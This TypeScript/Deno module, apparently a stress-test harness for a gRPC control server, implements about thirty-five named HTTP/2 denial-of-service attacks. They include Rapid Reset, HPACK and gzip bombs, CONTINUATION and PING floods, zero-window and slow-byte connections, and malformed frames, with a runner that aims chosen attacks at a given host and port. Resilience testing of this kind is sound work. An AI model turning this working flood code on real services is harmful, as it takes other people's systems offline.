/**
 * What somebody who means harm sends to a control server, by the attack's name. Run as a process of
 * its own, `NAMES HOST PORT NETWORK SECONDS [CERT]`, so that it takes no time from whoever measures;
 * names are apart by two commas, and each attack has an address of its own, NETWORK.1 and so on. It
 * says `attacking` when it begins, and at the end, by time or SIGTERM, what came of it.
 * @module
 */
import { Buffer } from "node:buffer";
import { gzipSync } from "node:zlib";
import {
  callBlock,
  callFields,
  END_HEADERS,
  END_STREAM,
  frame,
  grpcMessage,
  HELLO,
  indexed,
  literal,
  PREFACE,
  remembered,
  settings,
  TYPE,
  u32,
  wholeCall,
} from "./http2.ts";
import { type Attack, connect, crowd, ended, flood, inLanes, Relay, seen } from "./http2_lanes.ts";

const repeated = (bytes: Buffer, times: number) => Buffer.concat(Array(times).fill(bytes));
const junk = (bytes: number) => Buffer.alloc(bytes, 0x61);

/** Streams of one connection have odd numbers that go up. */
function streams(round: number, count: number, of: (stream: number) => Buffer): Buffer {
  return Buffer.concat(
    Array.from({ length: count }, (_, i) => of(1 + 2 * (1 + round * count + i))),
  );
}

/** The fields of a call go into the server's table once, and cost a byte each from then on. */
const TAUGHT = Buffer.concat([
  HELLO,
  frame(
    TYPE.headers,
    END_HEADERS | END_STREAM,
    1,
    Buffer.concat(callFields().map(([name, value]) => remembered(name, value))),
  ),
]);
const SHORT = Buffer.concat(callFields().map((_, i) => indexed(62 + callFields().length - 1 - i)));

/** A table entry of 4 kB, and then a block that names it 4,000 times: 16 MB of fields in 4 kB. */
const BOMB_TABLE = Buffer.concat([
  HELLO,
  frame(
    TYPE.headers,
    END_HEADERS | END_STREAM,
    1,
    Buffer.concat([callBlock(), remembered("x", "b".repeat(3900))]),
  ),
]);
const BOMB = Buffer.concat([callBlock(), repeated(indexed(62), 4000)]);

/** A block over as many frames as it takes. */
function longBlock(stream: number, block: Buffer): Buffer {
  const parts = [];
  for (let at = 0; at < block.length; at += 16_384) {
    const last = at + 16_384 >= block.length;
    const part = block.subarray(at, at + 16_384);
    const flags = (last ? END_HEADERS : 0) | (at === 0 ? END_STREAM : 0);
    parts.push(frame(at === 0 ? TYPE.headers : TYPE.continuation, flags, stream, part));
  }
  return Buffer.concat(parts);
}

const PING = repeated(frame(TYPE.ping, 0, 0, Buffer.alloc(8)), 500);
const SETTINGS = repeated(settings([3, 100]), 500);
const OPEN_CALL = frame(TYPE.headers, END_HEADERS, 1, callBlock());
const GARBAGE = crypto.getRandomValues(new Uint8Array(4096));
const FIELDS = Buffer.concat([
  callBlock(),
  ...Array.from({ length: 100_000 }, (_, i) => literal(`f${i}`, "v")),
]);

/** The start of a TLS handshake that is never finished: a record that announces more than comes. */
const CLIENT_HELLO = Buffer.concat([Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]), junk(60)]);

export const ATTACKS: Record<string, Attack> = {
  "rapid reset": flood(
    TAUGHT,
    (round) =>
      streams(round, 200, (stream) =>
        Buffer.concat([
          frame(TYPE.headers, END_HEADERS, stream, SHORT),
          frame(TYPE.rstStream, 0, stream, u32(8)),
        ])),
  ),
  "reset on unknown paths": flood(HELLO, (round) =>
    streams(round, 100, (stream) =>
      Buffer.concat([
        frame(TYPE.headers, END_HEADERS | END_STREAM, stream, callBlock("/nobody/knows")),
        frame(TYPE.rstStream, 0, stream, u32(8)),
      ]))),
  "an unknown path, and the end": flood(
    HELLO,
    (round) =>
      Buffer.concat([
        wholeCall(1 + 2 * round, "/nobody/knows"),
        frame(TYPE.goaway, 0, 0, Buffer.concat([u32(0), u32(0)])),
        frame(TYPE.ping, 0, 0, junk(7)),
      ]),
  ),
  "too many fields, held": crowd(50, () =>
    Buffer.concat([
      BOMB_TABLE,
      streams(0, 400, (stream) =>
        frame(TYPE.headers, END_HEADERS | END_STREAM, stream, repeated(indexed(62), 40))),
    ])),
  "streams on unknown paths": flood(
    HELLO,
    (round) => streams(round, 50, (stream) => wholeCall(stream, "/nobody/knows")),
  ),
  "streams of no gRPC": flood(
    HELLO,
    (round) =>
      streams(
        round,
        100,
        (stream) =>
          frame(
            TYPE.headers,
            END_HEADERS | END_STREAM,
            stream,
            Buffer.concat(
              callFields().filter(([name]) => name.startsWith(":"))
                .map(([name, value]) => literal(name, value)),
            ),
          ),
      ),
  ),
  "calls without end": flood(HELLO, (round) => streams(round, 50, wholeCall)),
  "CONTINUATION without end": flood(
    Buffer.concat([HELLO, frame(TYPE.headers, 0, 1, callBlock())]),
    () => repeated(frame(TYPE.continuation, 0, 1, literal("x", "y".repeat(1000))), 100),
  ),
  "empty CONTINUATION": flood(
    Buffer.concat([HELLO, frame(TYPE.headers, 0, 1, callBlock())]),
    () => repeated(frame(TYPE.continuation, 0, 1), 1000),
  ),
  "SETTINGS": flood(HELLO, () => SETTINGS),
  "SETTINGS, answers unread": flood(HELLO, () => SETTINGS, false),
  "PING": flood(HELLO, () => PING),
  "PING, answers unread": flood(HELLO, () => PING, false),
  "PRIORITY": flood(
    HELLO,
    (round) =>
      streams(
        round,
        500,
        (stream) => frame(TYPE.priority, 0, stream, Buffer.concat([u32(0), Buffer.from([1])])),
      ),
  ),
  "unknown frames": flood(HELLO, () => repeated(frame(0xee, 0xff, 0, junk(64)), 500)),
  "empty DATA": flood(
    Buffer.concat([HELLO, OPEN_CALL]),
    () => repeated(frame(TYPE.data, 0, 1), 1000),
  ),
  "DATA of a byte": flood(
    Buffer.concat([HELLO, OPEN_CALL, frame(TYPE.data, 0, 1, Buffer.from([0, 0, 64, 0, 0]))]),
    () => repeated(frame(TYPE.data, 0, 1, Buffer.from([1])), 1000),
  ),
  "100,000 fields": flood(HELLO, () => longBlock(1, FIELDS)),
  "a field of 8 MB": flood(HELLO, () => longBlock(1, literal("x", "y".repeat(8 << 20)))),
  "HPACK bomb": flood(
    BOMB_TABLE,
    (round) =>
      streams(round, 20, (stream) => frame(TYPE.headers, END_HEADERS | END_STREAM, stream, BOMB)),
  ),
  "metadata over the limit": flood(
    HELLO,
    (round) =>
      streams(round, 10, (stream) =>
        Buffer.concat([
          longBlock(stream, Buffer.concat([callBlock(), literal("x", "y".repeat(40_000))]))
            .fill(0, 4, 4),
        ])),
  ),
  "gzip bombs": flood(
    HELLO,
    (round) =>
      streams(round, 4, (stream) =>
        Buffer.concat([
          frame(
            TYPE.headers,
            END_HEADERS,
            stream,
            Buffer.concat([callBlock(), literal("grpc-encoding", "gzip")]),
          ),
          frame(TYPE.data, END_STREAM, stream, GZIP_BOMB),
        ])),
  ),
  "1 GB announced": flood(
    Buffer.concat([
      HELLO,
      OPEN_CALL,
      frame(TYPE.data, 0, 1, Buffer.concat([Buffer.from([0]), u32(1 << 30)])),
    ]),
    () => frame(TYPE.data, 0, 1, junk(16_384)),
  ),
  "zero window": crowd(
    50,
    () =>
      Buffer.concat([
        PREFACE,
        settings([4, 0]),
        Buffer.concat(Array.from({ length: 100 }, (_, i) => wholeCall(1 + 2 * i))),
      ]),
  ),
  "window updates of a byte": flood(
    Buffer.concat([PREFACE, settings([4, 0]), OPEN_CALL]),
    () => repeated(frame(TYPE.windowUpdate, 0, 1, u32(1)), 500),
  ),
  "windows that overflow": crowd(50, () =>
    Buffer.concat([
      HELLO,
      OPEN_CALL,
      frame(TYPE.windowUpdate, 0, 1, u32(0x7fff_ffff)),
      frame(TYPE.windowUpdate, 0, 0, u32(0x7fff_ffff)),
    ])),
  "answers unread": flood(HELLO, (round) => streams(round, 50, wholeCall), false),
  "requests by the byte": crowd(
    100,
    () =>
      Buffer.concat([
        HELLO,
        OPEN_CALL,
        frame(TYPE.data, 0, 1, Buffer.from([0, 0, 0, 1, 0])),
      ]),
    frame(TYPE.data, 0, 1, Buffer.from([7])),
  ),
  "connections without a byte": crowd(300, () => new Uint8Array()),
  "half a ClientHello": crowd(200, () => CLIENT_HELLO, Buffer.from([7])),
  "preface only": crowd(300, () => PREFACE),
  "wrong frame sizes": crowd(50, (at) =>
    Buffer.concat([
      HELLO,
      [
        frame(TYPE.ping, 0, 0, junk(7)),
        frame(TYPE.settings, 0, 0, junk(5)),
        frame(TYPE.windowUpdate, 0, 0, junk(3)),
        frame(TYPE.rstStream, 0, 1, junk(9)),
        frame(TYPE.priority, 0, 1, junk(4)),
        Buffer.from([255, 255, 255, 0, 0, 0, 0, 0, 1]),
      ][at % 6] as Buffer,
    ])),
  "garbage after the preface": crowd(50, () => Buffer.concat([PREFACE, GARBAGE])),
  "HTTP/1.1": crowd(50, () => Buffer.from("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")),
  "connections come and go": (target, end) =>
    inLanes(50, end, async () => {
      const connection = await connect(target);
      await connection?.write(HELLO);
      connection?.close();
    }),
  "h2load": async (target, end) => {
    await using relay = await Relay.start(target);
    const scheme = target.cert === undefined ? "http" : "https";
    const child = new Deno.Command("h2load", {
      args: [
        ...["-c", "200", "-m", "100", "-n", "1000000", "-d", relay.body],
        ...["-H", "content-type: application/grpc", "-H", "te: trailers"],
        `${scheme}://127.0.0.1:${relay.port}/scistream.Control/list`,
      ],
      stdout: "null",
      stderr: "null",
    }).spawn();
    await Promise.race([ended(end), child.status]);
    try {
      child.kill("SIGKILL");
    } catch {
      // It has ended by itself.
    }
    await child.status;
  },
};

/** 4 MB of nothing, in 4 kB. */
const GZIP_BOMB = grpcMessage(gzipSync(Buffer.alloc(4 << 20)), true);

if (import.meta.main) {
  const [names = "", host = "", port, network = "", seconds, certFile] = Deno.args;
  const cert = certFile === undefined ? undefined : Deno.readTextFileSync(certFile);
  const stopped = new AbortController();
  Deno.addSignalListener("SIGTERM", () => stopped.abort());
  const end = AbortSignal.any([stopped.signal, AbortSignal.timeout(Number(seconds) * 1000)]);
  console.log("attacking");
  await Promise.all(
    names.split(",,").map((name, i) => {
      const attack = ATTACKS[name];
      if (!attack) throw new Error(`no attack ${name}`);
      return attack({ host, port: Number(port), from: `${network}.${i + 1}`, cert }, end);
    }),
  );
  console.log(JSON.stringify(seen));
  Deno.exit(0);
}
